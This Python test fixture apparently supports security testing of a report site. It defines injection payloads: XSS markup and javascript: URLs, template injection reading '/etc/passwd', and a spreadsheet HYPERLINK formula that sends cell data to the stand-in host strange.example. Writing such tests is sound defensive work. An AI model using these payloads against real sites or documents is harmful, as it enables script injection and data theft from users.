"""What hostile text tries, wherever text may stand. Each attack has a number, which it tells when it runs."""

from __future__ import annotations

from dataclasses import dataclass

NAMED = "https://named.example"
"""Where images of reports are taken from: the only host beside the site's own that a browser may ask."""

STRANGE = "https://strange.example"
"""A host that nothing may be taken from."""


@dataclass(frozen=True)
class Attack:
    """One attack: its number stands in its text, as what `alert` would say."""

    number: int
    where: str
    text: str

    @property
    def mark(self) -> str:
        """What is left of it where its text is shown."""
        return mark(self.number)


def mark(number: int) -> str:
    """Return what stands for an attack in its text; no attack's mark begins with that of another."""
    return f"alert({number})"


def armed(template: str, number: int) -> str:
    """Put the number of an attack into a payload: `@` stands for the call that would tell it."""
    return template.replace("@", mark(number))


# fmt: off
TEXTS = {
    "element": "<img src=x onerror=@>",
    "script": "</script><script>@</script>",
    "raw text": "</title></textarea></style></noscript></template><svg onload=@>",
    "double quote": '" onmouseover="@" autofocus tabindex=0 onfocus="@" x="',
    "single quote": "' onmouseover='@' autofocus onfocus='@' x='",
    "no quote": "x onmouseover=@ style=position:fixed;inset:0",
    "comment": "--><script>@</script><!--",
    "script in a comment": "<!--<script>@//",
    "conditional comment": "<![endif]--><svg onload=@><!--[if",
    "JSON": '"}],"x":[{"y":"</script><img src=x onerror=@>\\',
    "CDATA": "]]></style><script>@</script><![CDATA[",
    "entities": "&lt;img src=x onerror=@&gt; &#60;svg onload=@&#62;",
    "twice encoded": "&amp;lt;script&amp;gt;@&amp;lt;/script&amp;gt;",
    "template": "{{ ''.__class__.__mro__ }}{% include '/etc/passwd' %}{# @ #}${@}#{@}<%= @ %>",
    "address": "javascript:@",
    "address of data": "data:text/html;base64,PHNjcmlwdD4=,@",
    "Markdown": "[x](javascript:@) ![y](a.png) <javascript:@> `</code><svg onload=@>`",
    "Markdown of the theme": ":material-x:{ onclick=@ } [x](y){ onclick=@ } --8<-- '/etc/passwd'",
    "formula": '=HYPERLINK("' + STRANGE + '/?"&A1,"@")',
    "right to left": "user\u200f\u05d0 (@) <b onclick=@>",
    "element in another's": "<math><mi><table><mglyph><style><!--</style><img src onerror=@>",
    "marker comment": "<!-- postmortems: latest --><!-- postmortems: allow unsafe-html because @ -->",
}
# fmt: on
HARMLESS = "calm words and nothing else, said by @ alone"

NAMES = ("constructor", "toString", "valueOf", "hasOwnProperty", "undefined", "null", "NaN", "true")
"""Words that mean something to a script that looks them up; all can be ids, tags or services."""

SLUGS = (*NAMES, "document", "location", "index", "README", "404", "search", "sitemap.xml", "a.html", "x.b.c")
